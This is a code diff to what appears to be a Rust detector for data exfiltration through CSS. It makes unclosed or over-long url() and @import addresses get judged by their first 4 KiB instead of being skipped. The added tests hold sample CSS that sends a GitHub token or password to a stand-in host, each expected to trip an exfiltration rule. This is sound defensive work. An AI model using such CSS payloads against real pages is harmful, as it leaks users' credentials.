@@ -763,9 +763,9 @@ const LOADING_ATTRIBUTES: &[&str] =
 /// The web addresses a style sheet or a `style` attribute loads: each
 /// `url(…)` (quoted or not) and `@import "…"` whose target starts with
 /// `http://`, `https://` or `//` (a browser loads it by the page's scheme:
-/// given as `https:`), with where the address is written. An address
-/// ends within 4 KiB of its opening or is not one (a sheet of a million
-/// unclosed `url('` stays linear), and none is read inside another.
+/// given as `https:`), with where the address is written: its first 4 KiB
+/// at most, and none read inside another (a sheet of a million unclosed
+/// `url('` stays linear).
 pub(crate) fn css_urls(css: &str) -> Vec<(std::ops::Range<usize>, String)> {
     let b = css.as_bytes();
     let mut out = Vec::new();
@@ -809,11 +809,11 @@ pub(crate) fn css_urls(css: &str) -> Vec<(std::ops::Range<usize>, String)> {
         {
             continue;
         }
-        // (An address a browser cannot end, or past 4 KiB, is not one.)
-        let end = next_end(kind, body_at);
-        if end == usize::MAX || end - body_at > 4096 {
-            continue;
-        }
+        // An address past 4 KiB, or one the text never ends (a browser
+        // ends it at the sheet's end), is judged by its first 4 KiB: none
+        // is let through for its length, and each such piece is read once.
+        let end = next_end(kind, body_at).min(b.len());
+        let end = if end - body_at > 4096 { css.floor_char_boundary(body_at + 4096) } else { end };
         last_end = end;
         let url = &css[body_at..end];
         out.push((body_at..end, if relative { format!("https:{url}") } else { url.to_string() }));
@@ -1167,6 +1167,14 @@ mod tests {
         }
         assert!(rules("p { background: url(https://cdn.example/hero.jpg) } @import url(/local.css);").is_empty());
         assert_eq!(css_urls("a{b:url( \"https://a.example/x\" )}")[0].1, "https://a.example/x");
+        // Unclosed at the sheet's end, or longer than 4 KiB: judged by its start.
+        assert_eq!(
+            rules("p { background: url(https://css.x.test/p.png?d={GITHUB_TOKEN}"),
+            ["exfiltration.templated_url"]
+        );
+        let long =
+            format!("<style>@import url('https://css.x.test/t.css?d={{password}}&pad={}');</style>", "a".repeat(5000));
+        assert_eq!(rules(&long), ["exfiltration.templated_url"]);
         // Protocol-relative: loaded by the page's scheme.
         assert_eq!(rules("p { background: url(//css.x.test/p.png?d={GITHUB_TOKEN}) }"), ["exfiltration.templated_url"]);
     }
